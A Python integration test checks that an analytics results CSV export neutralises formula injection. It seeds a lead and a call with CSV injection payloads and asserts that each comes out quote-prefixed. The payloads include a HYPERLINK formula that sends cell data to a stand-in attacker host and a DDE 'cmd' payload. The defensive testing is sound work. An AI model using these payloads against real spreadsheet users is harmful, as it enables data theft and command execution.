"""A lead and a call whose words are CSV injection payloads, in the results a person opens."""

from __future__ import annotations

import csv
import io

from libs.bus import EventBus
from libs.events import OutcomeRecorded
from tests.integration.analytics.histories import Fates
from tests.integration.analytics.support import (
    assert_original_results,
    publish,
    serving,
    settings_for,
)

LEAD_PAYLOADS = {
    "business_name": '=HYPERLINK("http://evil.example/?leak="&A1,"Details")',
    "contact_name": "\t=1+1",
    "current_challenges": "\uff1d1+1",
    "best_call_time": "@SUM(1+1)",
}
CALL_PAYLOADS = {
    "conversation_summary": " =cmd|' /C calc'!A0",
    "next_steps": '"=1+1',
}


def evil_and_plain() -> Fates:
    fates = Fates()
    fates.lead("evil", **LEAD_PAYLOADS, business_type_original="\uff0d1")
    fates.lead("plain", business_name="Rosa's Trattoria", current_challenges="A-1 at 2pm-4pm")
    for fate in ("evil", "plain"):
        ids = fates.call(fate)
        fates.add(OutcomeRecorded, ids, interest_level="high", **CALL_PAYLOADS)
    return fates


def rows_by_number(text: str) -> dict[str, dict[str, str]]:
    return {row["contact_number"]: row for row in csv.DictReader(io.StringIO(text))}


async def test_payloads_in_a_lead_and_its_call_come_out_as_text(bus: EventBus, tmp_path, log_watch):
    fates = evil_and_plain()
    settings = settings_for(tmp_path)
    last = await publish(bus, fates.events)
    async with serving(bus, settings) as (client, projector):
        await projector.wait_for(last)
        download = (await client.get("/results/download")).text
        # The kept file is rewritten after the projection: wait for a copy with the calls.
        await log_watch.wait_for(
            lambda r: (
                "Results file" in r["message"]
                and "calc'!A0" in settings.results_csv_file.read_text()
            )
        )
    kept = settings.results_csv_file.read_text()
    evil_number = fates.profiles["evil"].phone_number
    plain_number = fates.profiles["plain"].phone_number
    for results in (download, kept):
        rows = rows_by_number(results)
        evil, plain = rows[evil_number], rows[plain_number]  # the numbers stay bare E.164
        for column, payload in {**LEAD_PAYLOADS, **CALL_PAYLOADS}.items():
            assert evil[column] == f"'{payload}", column
        assert evil["business_type"] == "'\uff0d1"
        assert (plain["business_name"], plain["current_challenges"]) == (
            "Rosa's Trattoria",
            "A-1 at 2pm-4pm",
        )
        assert plain["next_steps"] == "'\"=1+1"  # the same payload, wherever it is
        assert_original_results(results)
